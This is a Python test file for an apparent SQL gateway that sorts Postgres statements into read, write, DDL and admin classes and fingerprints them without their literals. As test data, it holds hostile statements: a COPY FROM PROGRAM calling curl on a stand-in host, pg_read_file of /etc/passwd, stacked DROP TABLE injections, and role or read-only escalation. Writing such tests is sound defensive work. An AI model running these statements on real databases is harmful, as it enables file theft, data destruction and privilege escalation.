"""What is told of a statement from its text: a table of texts, hostile ones among them."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from access.gateway_rules import StatementClass as C
from gateway.statements import Statement, classify, skeleton_of
from gateway.statements.skeleton import NoSkeleton, bare


def told(text: str) -> Statement:
    return classify(skeleton_of(bare(text)), "postgres")


CLASSES = [
    ("SELECT 1", {C.READ}),
    ("TABLE item", {C.READ}),
    ("VALUES (1)", {C.READ}),
    ("-- DELETE FROM item\nSELECT 1", {C.READ}),
    ("/* SELECT 1 */ DELETE FROM item WHERE id = 1", {C.WRITE}),
    ("/* a /* nested */ comment */ UPDATE item SET price = 1 WHERE id = 2", {C.WRITE}),
    ("SELECT 'DELETE FROM item'", {C.READ}),
    ("SELECT $$; DROP TABLE item$$", {C.READ}),
    ('SELECT 1 AS "; DROP TABLE item"', {C.READ}),
    ("SELECT 1; DROP TABLE item", {C.READ, C.DDL}),
    ("WITH gone AS (DELETE FROM item WHERE id = 1 RETURNING *) SELECT * FROM gone", {C.READ, C.WRITE}),
    ("SELECT * INTO copy FROM item", {C.READ, C.DDL}),
    ("SELECT * FROM item FOR UPDATE", {C.READ, C.WRITE}),
    ("INSERT INTO item VALUES (1) ON CONFLICT DO NOTHING", {C.WRITE}),
    ("MERGE INTO item USING new ON item.id = new.id WHEN MATCHED THEN DELETE", {C.WRITE}),
    ("TRUNCATE item", {C.WRITE}),
    ("EXPLAIN DELETE FROM item WHERE id = 1", {C.READ}),
    ("EXPLAIN ANALYZE DELETE FROM item WHERE id = 1", {C.WRITE}),
    ("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM item WHERE id = 1", {C.WRITE}),
    ("EXPLAIN VERBOSE SELECT 1", {C.READ}),
    ("COPY item FROM STDIN", {C.WRITE}),
    ("COPY item (id, name) TO STDOUT WITH (FORMAT csv)", {C.READ}),
    ("COPY (SELECT * FROM item) TO STDOUT", {C.READ}),
    ("COPY (DELETE FROM item WHERE id = 1 RETURNING *) TO STDOUT", {C.WRITE}),
    ("COPY item TO '/tmp/item'", {C.ADMIN}),
    ("COPY item FROM PROGRAM 'curl evil.example'", {C.ADMIN}),
    ("CREATE TABLE item (id int)", {C.DDL}),
    ("CREATE TABLE copy AS SELECT * FROM item", {C.DDL}),
    ("ALTER TABLE item ADD COLUMN price numeric", {C.DDL}),
    ("CREATE ROLE mallory", {C.ADMIN}),
    ("ALTER SYSTEM SET fsync = off", {C.ADMIN}),
    ("GRANT SELECT ON item TO PUBLIC", {C.ADMIN}),
    ("VACUUM item", {C.ADMIN}),
    ("BEGIN", {C.TRANSACTION}),
    ("PREPARE TRANSACTION 'x'", {C.TRANSACTION}),
    ("SET search_path = shop", {C.SESSION}),
    ("SHOW search_path", {C.SESSION}),
    ("LISTEN news", {C.SESSION}),
    ("DECLARE c CURSOR FOR SELECT * FROM item", {C.SESSION, C.READ}),
    ("PREPARE p (int) AS DELETE FROM item WHERE id = $1", {C.SESSION, C.WRITE}),
    ("EXECUTE p (1)", {C.SESSION}),
    ("DO $$ BEGIN DELETE FROM item; END $$", {C.CALL}),
    ("CALL tidy_up()", {C.CALL}),
    ("FROBNICATE item", {C.UNKNOWN}),
    ("SELECT FROM WHERE", {C.UNKNOWN}),
]


@pytest.mark.parametrize(("text", "classes"), CLASSES, ids=[text for text, _ in CLASSES])
def test_its_classes(text: str, classes: set[C]) -> None:
    assert told(text).classes == classes


@pytest.mark.parametrize(
    ("text", "every_row"),
    [
        ("DELETE FROM item", True),
        ("DELETE FROM item WHERE true", True),
        ("DELETE FROM item WHERE 1 = 1", True),
        ("UPDATE item SET price = 0", True),
        ("WITH x AS (UPDATE item SET price = 0 RETURNING *) SELECT * FROM x", True),
        ("TRUNCATE item", True),
        ("EXPLAIN ANALYZE DELETE FROM item", True),
        ("EXPLAIN DELETE FROM item", False),
        ("DELETE FROM item WHERE id = 1", False),
        ("UPDATE item SET price = 0 WHERE id IN (SELECT id FROM old)", False),
        ("MERGE INTO item USING new ON item.id = new.id WHEN MATCHED THEN UPDATE SET price = 1", False),
        ("SELECT * FROM item", False),
    ],
)
def test_whether_it_changes_every_row(text: str, every_row: bool) -> None:
    assert told(text).changes_every_row is every_row


@pytest.mark.parametrize(
    ("text", "tables"),
    [
        ("SELECT * FROM shop.item JOIN Person p ON p.id = item.id", {"shop.item", "person"}),
        ('SELECT * FROM "Odd Name"', {"Odd Name"}),
        ("WITH recent AS (SELECT * FROM item) SELECT * FROM recent", {"item"}),
        ("INSERT INTO item SELECT * FROM other", {"item", "other"}),
        ("COPY shop.item TO STDOUT", {"shop.item"}),
        ("TRUNCATE shop.item, other", {"shop.item", "other"}),
        ("SELECT * FROM generate_series(1, 3)", set()),
    ],
)
def test_its_tables(text: str, tables: set[str]) -> None:
    assert told(text).tables == tables


@pytest.mark.parametrize(
    ("text", "function"),
    [
        ("SELECT pg_terminate_backend(1)", "pg_terminate_backend"),
        ("SELECT pg_catalog.pg_read_file('/etc/passwd')", "pg_read_file"),
        ("SELECT \"pg_read_file\"('/etc/passwd')", "pg_read_file"),
        ("SELECT PG_READ_FILE /* here */ ('/etc/passwd')", "pg_read_file"),
        ("SELECT * FROM dblink('dbname=x', 'DELETE FROM item') AS t(a int)", "dblink"),
        ("EXPLAIN SELECT lo_export(1, '/tmp/x')", "lo_export"),
        ("CALL shop.tidy(1)", "tidy"),
    ],
)
def test_the_functions_it_calls(text: str, function: str) -> None:
    assert function in told(text).functions


@pytest.mark.parametrize(
    "text",
    [
        *("SET default_transaction_read_only = off", "SET SESSION default_transaction_read_only TO 'off'"),
        *(
            "BEGIN READ WRITE",
            "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE",
            "SET TRANSACTION READ WRITE",
        ),
        *("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", "set LOCAL transaction_read_only = 0"),
    ],
)
def test_whatever_would_make_a_session_write(text: str) -> None:
    statement = told(text)
    assert statement.asks_to_write or statement.settings & {"default_transaction_read_only", "transaction_read_only"}


@pytest.mark.parametrize(
    "text", ["SET ROLE postgres", "SET SESSION AUTHORIZATION postgres", "SET LOCAL ROLE 'postgres'"]
)
def test_whatever_would_make_it_somebody_else(text: str) -> None:
    assert told(text).changes_role


@pytest.mark.parametrize(
    "secret",
    [
        "'4111 1111'",
        "E'4111\\'1111'",
        "$$4111$$",
        "$tag$4111$tag$",
        "U&'4111'",
        "B'4111'",
        "X'4111'",
        "4111",
        "41.11",
        "4111e3",
    ],
)
def test_no_literal_is_left_in_the_shape(secret: str) -> None:
    for text in (f"SELECT * FROM card WHERE number = {secret}", f"SELECT {secret}", f"SELECT ({secret},{secret})"):
        skeleton = skeleton_of(bare(text))
        assert "41" not in skeleton.shape
        assert "41" not in skeleton.sql


@pytest.mark.parametrize(
    "other",
    [
        "select * from item where id in (1) and name = 'b'",
        "SELECT  *\nFROM item -- why\nWHERE id IN (1, 2, 3, 4) AND name = 'it''s'",
        "SELECT * FROM item WHERE id IN (7,8) AND name = $$x$$;",
    ],
)
def test_texts_that_differ_in_nothing_that_matters_have_one_fingerprint(other: str) -> None:
    first = "SELECT * FROM item WHERE id IN (1, 2) AND name = 'a'"
    assert skeleton_of(bare(first)).fingerprint == skeleton_of(bare(other)).fingerprint


def test_texts_that_differ_in_a_name_have_two() -> None:
    assert skeleton_of(bare("SELECT a FROM item")).fingerprint != skeleton_of(bare("SELECT b FROM item")).fingerprint


@pytest.mark.parametrize("text", ["SELECT 'open", 'SELECT "open', "SELECT $$open", "/* open", "x" * 2_000_000])
def test_a_text_that_is_none_has_no_skeleton(text: str) -> None:
    with pytest.raises(NoSkeleton):
        skeleton_of(bare(text))


def test_a_deep_text_is_unknown_rather_than_an_error() -> None:
    assert told("SELECT " + "(" * 5000 + "1" + ")" * 5000).classes <= {C.UNKNOWN, C.READ}


@given(st.text(max_size=200))
def test_any_text_is_told_or_has_no_skeleton(text: str) -> None:
    try:
        statement = told(text)
    except NoSkeleton:
        return
    assert statement.classes or not text.strip(" \t\n\r;") or not skeleton_of(bare(text)).words


@given(st.text(alphabet=st.characters(exclude_characters="'\x00", exclude_categories=["Cs"]), max_size=50))
def test_no_string_however_odd_is_left_in_the_shape(inside: str) -> None:
    marked = f"zq{inside}qz"
    assert "zq" not in skeleton_of(bare(f"SELECT * FROM t WHERE a = '{marked}' AND b = 1")).shape
